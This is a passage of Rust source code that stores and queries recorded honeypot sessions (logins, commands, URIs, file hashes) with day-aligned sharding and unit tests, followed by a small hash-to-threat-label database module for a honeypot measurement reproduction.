            cmd_list_id,
            uri_list_id,
            hash_list_id,
            dl_list_id,
        };
        self.rows.push(row);
    }

    /// Number of sessions stored.
    pub fn len(&self) -> usize {
        self.rows.len()
    }

    /// Is the store empty?
    pub fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }

    /// Raw row access (benchmarks, compaction tooling).
    pub fn rows(&self) -> &[Row] {
        &self.rows
    }

    /// Typed view of one session.
    pub fn view(&self, idx: usize) -> SessionView<'_> {
        SessionView {
            store: self,
            row: &self.rows[idx],
        }
    }

    /// Typed view of an externally held row, resolved against this store's
    /// pools. Streaming readers hold row chunks outside the store (the
    /// store itself stays a pools-only shell); the row's interned ids must
    /// have been validated against these pools first.
    pub fn view_row<'a>(&'a self, row: &'a Row) -> SessionView<'a> {
        SessionView { store: self, row }
    }

    /// Iterate typed views over all sessions.
    pub fn iter(&self) -> impl Iterator<Item = SessionView<'_>> {
        self.rows
            .iter()
            .map(move |row| SessionView { store: self, row })
    }

    /// Raw rows of a contiguous range (the unit of work of sharded scans).
    pub fn rows_range(&self, range: std::ops::Range<usize>) -> &[Row] {
        &self.rows[range]
    }

    /// Iterate typed views over a contiguous row range.
    pub fn iter_range(
        &self,
        range: std::ops::Range<usize>,
    ) -> impl Iterator<Item = SessionView<'_>> {
        self.rows[range]
            .iter()
            .map(move |row| SessionView { store: self, row })
    }

    /// Are the rows ordered by day (non-decreasing)? Collector-produced
    /// stores always are — the runner ingests day by day — but hand-built
    /// stores may not be, and day-grouped streaming analyses must check.
    pub fn is_day_ordered(&self) -> bool {
        self.rows
            .windows(2)
            .all(|w| w[0].start_secs / 86_400 <= w[1].start_secs / 86_400)
    }

    /// Split the rows into at most `shards` contiguous ranges whose
    /// boundaries fall on day boundaries: each range ends after the last row
    /// of some day, so no day's rows span two ranges. Requires day-ordered
    /// rows (see [`SessionStore::is_day_ordered`]). The ranges cover
    /// `0..len` in order; fewer than `shards` ranges come back when the
    /// store is small or single days are large.
    ///
    /// Day alignment is what makes sharded day-grouped analyses exact: any
    /// per-day statistic (daily unique clients, per-day freshness, distinct
    /// active days per entity) is computed entirely within one shard, so an
    /// ordered merge of per-shard partial states reproduces the serial scan
    /// bit for bit — for *any* shard count.
    pub fn day_aligned_ranges(&self, shards: usize) -> Vec<std::ops::Range<usize>> {
        let len = self.rows.len();
        if len == 0 {
            return Vec::new();
        }
        let target = len.div_ceil(shards.max(1));
        let mut ranges = Vec::with_capacity(shards.max(1));
        let mut start = 0usize;
        while start < len {
            let mut end = (start + target).min(len);
            if end < len {
                // Snap forward past the tail of the day the target split in.
                let day = self.rows[end - 1].start_secs / 86_400;
                while end < len && self.rows[end].start_secs / 86_400 == day {
                    end += 1;
                }
            }
            ranges.push(start..end);
            start = end;
        }
        ranges
    }
}

/// A typed, zero-copy view of one stored session.
#[derive(Clone, Copy)]
pub struct SessionView<'a> {
    store: &'a SessionStore,
    row: &'a Row,
}

impl<'a> SessionView<'a> {
    /// Honeypot id.
    pub fn honeypot(&self) -> u16 {
        self.row.honeypot
    }

    /// Protocol.
    pub fn protocol(&self) -> Protocol {
        if self.row.protocol == 0 {
            Protocol::Ssh
        } else {
            Protocol::Telnet
        }
    }

    /// Client address.
    pub fn client_ip(&self) -> Ip4 {
        Ip4(self.row.client_ip)
    }

    /// Client country (if geolocated).
    pub fn client_country(&self) -> Option<CountryId> {
        (self.row.client_country != u16::MAX).then_some(CountryId(self.row.client_country))
    }

    /// Client AS (if resolved).
    pub fn client_asn(&self) -> Option<Asn> {
        (self.row.client_asn != u32::MAX).then_some(Asn(self.row.client_asn))
    }

    /// Session start instant.
    pub fn start(&self) -> SimInstant {
        SimInstant(self.row.start_secs as u64)
    }

    /// Day index of the start.
    pub fn day(&self) -> u32 {
        self.start().day()
    }

    /// Duration in seconds.
    pub fn duration_secs(&self) -> u32 {
        self.row.duration_secs
    }

    /// End reason.
    pub fn ended_by(&self) -> EndReason {
        match self.row.end_reason {
            0 => EndReason::ClientClose,
            1 => EndReason::Timeout,
            _ => EndReason::AuthLimit,
        }
    }

    /// SSH client version string.
    pub fn ssh_version(&self) -> Option<&'a str> {
        (self.row.ssh_version_id != NONE_ID)
            .then(|| self.store.ssh_versions.get(self.row.ssh_version_id))
    }

    /// Login attempts as (username, password, accepted).
    pub fn logins(&self) -> impl Iterator<Item = (&'a str, &'a str, bool)> + 'a {
        let store = self.store;
        store
            .lists
            .get(self.row.login_list_id)
            .iter()
            .map(move |&packed| {
                let accepted = packed & 1 == 1;
                let key = store.creds.get(packed >> 1);
                let (u, p) = key.split_once('\0').unwrap_or((key, ""));
                (u, p, accepted)
            })
    }

    /// Did the client attempt any login?
    pub fn attempted_login(&self) -> bool {
        self.row.login_list_id != ListPool::EMPTY
    }

    /// Did a login succeed?
    pub fn login_succeeded(&self) -> bool {
        self.logins().any(|(_, _, ok)| ok)
    }

    /// Commands as (command string, known).
    pub fn commands(&self) -> impl Iterator<Item = (&'a str, bool)> + 'a {
        let store = self.store;
        store
            .lists
            .get(self.row.cmd_list_id)
            .iter()
            .map(move |&packed| (store.commands.get(packed >> 1), packed & 1 == 1))
    }

    /// Number of commands executed.
    pub fn n_commands(&self) -> usize {
        self.store.lists.get(self.row.cmd_list_id).len()
    }

    /// URIs referenced.
    pub fn uris(&self) -> impl Iterator<Item = &'a str> + 'a {
        let store = self.store;
        store
            .lists
            .get(self.row.uri_list_id)
            .iter()
            .map(move |&id| store.uris.get(id))
    }

    /// Did any command reference a URI?
    pub fn has_uri(&self) -> bool {
        self.row.uri_list_id != ListPool::EMPTY
    }

    /// Packed login-attempt ids (`cred_id << 1 | accepted`) — the raw form
    /// analyses count by without resolving strings.
    pub fn login_packed(&self) -> &'a [u32] {
        self.store.lists.get(self.row.login_list_id)
    }

    /// Packed command ids (`cmd_id << 1 | known`).
    pub fn command_packed(&self) -> &'a [u32] {
        self.store.lists.get(self.row.cmd_list_id)
    }

    /// Interned ids of file hashes (use [`SessionStore::digests`] to resolve).
    pub fn hash_ids(&self) -> &'a [u32] {
        self.store.lists.get(self.row.hash_list_id)
    }

    /// File hashes created/modified in this session.
    pub fn file_hashes(&self) -> impl Iterator<Item = Digest> + 'a {
        let store = self.store;
        self.hash_ids().iter().map(move |&id| store.digests.get(id))
    }

    /// Interned ids of download hashes.
    pub fn download_hash_ids(&self) -> &'a [u32] {
        self.store.lists.get(self.row.dl_list_id)
    }

    /// The raw compact row (for analyses that count by interned id without
    /// resolving strings).
    pub fn raw(&self) -> &'a Row {
        self.row
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_hash::Sha256;
    use hf_honeypot::LoginAttempt;
    use hf_proto::creds::Credentials;
    use hf_shell::CommandRecord;

    fn record(hp: u16, day: u32, proto: Protocol) -> SessionRecord {
        SessionRecord {
            honeypot: hp,
            protocol: proto,
            client_ip: Ip4::new(16, 0, 0, 1),
            client_port: 4000,
            start: SimInstant::from_day_and_secs(day, 100),
            duration_secs: 30,
            ended_by: EndReason::ClientClose,
            ssh_client_version: Some("SSH-2.0-Go".into()),
            logins: vec![
                LoginAttempt {
                    creds: Credentials::new("root", "root"),
                    accepted: false,
                },
                LoginAttempt {
                    creds: Credentials::new("root", "1234"),
                    accepted: true,
                },
            ],
            commands: vec![
                CommandRecord {
                    input: "uname -a".into(),
                    known: true,
                },
                CommandRecord {
                    input: "weird --thing".into(),
                    known: false,
                },
            ],
            uris: vec!["http://h/x".into()],
            file_hashes: vec![Sha256::digest(b"payload")],
            download_hashes: vec![Sha256::digest(b"body")],
        }
    }

    #[test]
    fn ingest_and_view_roundtrip() {
        let mut s = SessionStore::new();
        s.ingest(&record(3, 10, Protocol::Ssh), Some((CountryId(1), Asn(99))));
        assert_eq!(s.len(), 1);
        let v = s.view(0);
        assert_eq!(v.honeypot(), 3);
        assert_eq!(v.protocol(), Protocol::Ssh);
        assert_eq!(v.day(), 10);
        assert_eq!(v.duration_secs(), 30);
        assert_eq!(v.client_country(), Some(CountryId(1)));
        assert_eq!(v.client_asn(), Some(Asn(99)));
        assert_eq!(v.ssh_version(), Some("SSH-2.0-Go"));
        assert!(v.attempted_login());
        assert!(v.login_succeeded());
        let logins: Vec<_> = v.logins().collect();
        assert_eq!(
            logins,
            vec![("root", "root", false), ("root", "1234", true)]
        );
        let cmds: Vec<_> = v.commands().collect();
        assert_eq!(cmds, vec![("uname -a", true), ("weird --thing", false)]);
        assert_eq!(v.uris().collect::<Vec<_>>(), vec!["http://h/x"]);
        assert_eq!(v.file_hashes().next().unwrap(), Sha256::digest(b"payload"));
        assert_eq!(v.download_hash_ids().len(), 1);
    }

    #[test]
    fn interning_collapses_repeated_sessions() {
        let mut s = SessionStore::new();
        for i in 0..1000 {
            s.ingest(&record(i % 5, 0, Protocol::Ssh), None);
        }
        assert_eq!(s.len(), 1000);
        // 1000 identical sessions → 1 cred pair ×2 creds, 2 commands, 1 uri …
        assert_eq!(s.creds.len(), 2);
        assert_eq!(s.commands.len(), 2);
        assert_eq!(s.uris.len(), 1);
        assert_eq!(s.digests.len(), 2);
        // Lists are shared across attribute kinds, so the single-element
        // lists [0] (uris, file hashes) collapse to one entry:
        // empty + logins + commands + [0] + [1] = 5.
        assert_eq!(s.lists.len(), 5);
    }

    #[test]
    fn missing_geo_is_none() {
        let mut s = SessionStore::new();
        s.ingest(&record(0, 0, Protocol::Telnet), None);
        let v = s.view(0);
        assert_eq!(v.client_country(), None);
        assert_eq!(v.client_asn(), None);
        assert_eq!(v.protocol(), Protocol::Telnet);
    }

    #[test]
    fn empty_session_has_empty_iterators() {
        let mut rec = record(0, 0, Protocol::Ssh);
        rec.logins.clear();
        rec.commands.clear();
        rec.uris.clear();
        rec.file_hashes.clear();
        rec.download_hashes.clear();
        rec.ssh_client_version = None;
        let mut s = SessionStore::new();
        s.ingest(&rec, None);
        let v = s.view(0);
        assert!(!v.attempted_login());
        assert!(!v.login_succeeded());
        assert_eq!(v.n_commands(), 0);
        assert!(!v.has_uri());
        assert_eq!(v.hash_ids().len(), 0);
        assert_eq!(v.ssh_version(), None);
    }

    #[test]
    fn iter_covers_all_rows() {
        let mut s = SessionStore::new();
        for d in 0..7 {
            s.ingest(&record(0, d, Protocol::Ssh), None);
        }
        let days: Vec<u32> = s.iter().map(|v| v.day()).collect();
        assert_eq!(days, vec![0, 1, 2, 3, 4, 5, 6]);
    }

    #[test]
    fn range_accessors_match_full_iteration() {
        let mut s = SessionStore::new();
        for d in 0..10 {
            s.ingest(&record((d % 3) as u16, d, Protocol::Ssh), None);
        }
        assert_eq!(s.rows_range(2..5), &s.rows()[2..5]);
        let days: Vec<u32> = s.iter_range(3..7).map(|v| v.day()).collect();
        assert_eq!(days, vec![3, 4, 5, 6]);
    }

    #[test]
    fn day_ordered_detection() {
        let mut s = SessionStore::new();
        s.ingest(&record(0, 3, Protocol::Ssh), None);
        s.ingest(&record(0, 5, Protocol::Ssh), None);
        assert!(s.is_day_ordered());
        s.ingest(&record(0, 1, Protocol::Ssh), None);
        assert!(!s.is_day_ordered());
        assert!(SessionStore::new().is_day_ordered());
    }

    #[test]
    fn day_aligned_ranges_cover_and_never_split_a_day() {
        let mut s = SessionStore::new();
        // 5 days with uneven per-day counts: 1, 4, 2, 7, 3 rows.
        for (day, n) in [(0u32, 1usize), (1, 4), (2, 2), (3, 7), (4, 3)] {
            for _ in 0..n {
                s.ingest(&record(0, day, Protocol::Ssh), None);
            }
        }
        for shards in 1..=8 {
            let ranges = s.day_aligned_ranges(shards);
            assert!(ranges.len() <= shards.max(1));
            // Contiguous cover of 0..len.
            assert_eq!(ranges.first().unwrap().start, 0);
            assert_eq!(ranges.last().unwrap().end, s.len());
            for w in ranges.windows(2) {
                assert_eq!(w[0].end, w[1].start);
            }
            // No day spans two ranges.
            for w in ranges.windows(2) {
                let last = s.view(w[0].end - 1).day();
                let first = s.view(w[1].start).day();
                assert!(last < first, "shards {shards}: day {last} split");
            }
        }
        assert!(SessionStore::new().day_aligned_ranges(4).is_empty());
    }

    #[test]
    fn one_giant_day_collapses_to_one_range() {
        let mut s = SessionStore::new();
        for _ in 0..100 {
            s.ingest(&record(0, 7, Protocol::Ssh), None);
        }
        assert_eq!(s.day_aligned_ranges(8), vec![0..100]);
    }

    #[test]
    fn eager_capacity_hint_is_capped() {
        // A scale-1.0 estimate (~402 M rows ≈ 19 GB) must not be committed
        // upfront; the reservation is clamped to the eager cap.
        let s = SessionStore::with_capacity(402_000_000);
        assert!(s.rows.capacity() <= SessionStore::EAGER_ROW_RESERVE_CAP * 2);
        // Small hints still pre-allocate exactly.
        let s = SessionStore::with_capacity(1000);
        assert!(s.rows.capacity() >= 1000);
    }

    #[test]
    fn retire_rows_keeps_pools_and_ids_stable() {
        let mut s = SessionStore::new();
        s.ingest(&record(1, 0, Protocol::Ssh), None);
        let creds_before = s.creds.len();
        let lists_before = s.lists.len();
        s.retire_rows();
        assert!(s.is_empty());
        assert_eq!(s.creds.len(), creds_before);
        assert_eq!(s.lists.len(), lists_before);
        // Re-ingesting the same session re-uses the same interned ids.
        s.ingest(&record(1, 1, Protocol::Ssh), None);
        assert_eq!(s.creds.len(), creds_before);
        assert_eq!(s.lists.len(), lists_before);
    }

    #[test]
    fn view_row_matches_in_store_view() {
        let mut s = SessionStore::new();
        s.ingest(&record(2, 3, Protocol::Ssh), Some((CountryId(7), Asn(42))));
        let row = s.rows()[0];
        let external = s.view_row(&row);
        assert_eq!(external.honeypot(), 2);
        assert_eq!(external.day(), 3);
        assert_eq!(external.client_asn(), Some(Asn(42)));
        assert_eq!(
            external.logins().collect::<Vec<_>>(),
            s.view(0).logins().collect::<Vec<_>>()
        );
        assert_eq!(external.login_packed(), s.view(0).login_packed());
        assert_eq!(external.command_packed(), s.view(0).command_packed());
    }

    #[test]
    fn row_size_is_compact() {
        // The memory story of the columnar design: fixed 48-byte rows
        // (also enforced at compile time by the `const _` assert above).
        assert_eq!(std::mem::size_of::<Row>(), 48);
    }
}
