//! Hash tag database — the local substitute for VirusTotal/ClamAV lookups.
//!
//! The paper cross-checks observed hashes against malware databases and gets
//! labels (mirai / trojan / miner / malicious / suspicious / unknown) for the
//! popular ones. In the reproduction, labels come from the campaign that
//! produced each hash: the simulator records the association as sessions
//! execute. The tail's "unknown" label plays the role of the paper's
//! <2%-coverage reality: almost everything in the long tail is unlabeled.

use std::collections::HashMap;

use hf_hash::Digest;

/// One tagged hash.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TagEntry {
    /// Threat label ("mirai", "trojan", …).
    pub tag: String,
    /// Name of the campaign that produced the hash ("H1", "tail-00042", …).
    pub campaign: String,
}

/// Hash → tag database.
#[derive(Debug, Clone, Default)]
pub struct TagDb {
    map: HashMap<Digest, TagEntry>,
}

impl TagDb {
    /// Empty database.
    pub fn new() -> Self {
        Self::default()
    }

    /// Record a hash's tag (first association wins, like first submission to
    /// a malware DB).
    pub fn record(&mut self, hash: Digest, tag: &str, campaign: &str) {
        self.map.entry(hash).or_insert_with(|| TagEntry {
            tag: tag.to_string(),
            campaign: campaign.to_string(),
        });
    }

    /// Absorb another database, keeping existing entries on conflict.
    ///
    /// Combined with first-wins [`TagDb::record`], merging per-shard
    /// databases in plan order reproduces exactly the database a serial run
    /// records: an entry present in several shards keeps the earliest
    /// shard's association, which is the earliest plan's. Within one merge
    /// the iteration order of `other` is irrelevant — each hash occurs at
    /// most once per shard.
    pub fn merge(&mut self, other: TagDb) {
        if self.map.is_empty() {
            self.map = other.map;
            return;
        }
        for (hash, entry) in other.map {
            self.map.entry(hash).or_insert(entry);
        }
    }

    /// Look up a hash's tag label.
    pub fn tag(&self, hash: &Digest) -> Option<&str> {
        self.map.get(hash).map(|e| e.tag.as_str())
    }

    /// Look up the producing campaign.
    pub fn campaign(&self, hash: &Digest) -> Option<&str> {
        self.map.get(hash).map(|e| e.campaign.as_str())
    }

    /// Number of tagged hashes.
    pub fn len(&self) -> usize {
        self.map.len()
    }

    /// Is the database empty?
    pub fn is_empty(&self) -> bool {
        self.map.is_empty()
    }

    /// Iterate entries.
    pub fn iter(&self) -> impl Iterator<Item = (&Digest, &TagEntry)> {
        self.map.iter()
    }

    /// Entries sorted by digest — the canonical order the hfstore snapshot
    /// writer uses, so that identical databases serialize byte-identically
    /// regardless of `HashMap` iteration order.
    pub fn entries_sorted(&self) -> Vec<(&Digest, &TagEntry)> {
        let mut v: Vec<(&Digest, &TagEntry)> = self.map.iter().collect();
        v.sort_by_key(|(d, _)| *d);
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_hash::Sha256;

    #[test]
    fn first_association_wins() {
        let mut db = TagDb::new();
        let h = Sha256::digest(b"x");
        db.record(h, "mirai", "H4");
        db.record(h, "trojan", "H1");
        assert_eq!(db.tag(&h), Some("mirai"));
        assert_eq!(db.campaign(&h), Some("H4"));
        assert_eq!(db.len(), 1);
    }

    #[test]
    fn missing_hash_is_none() {
        let db = TagDb::new();
        assert_eq!(db.tag(&Sha256::digest(b"nope")), None);
    }
}
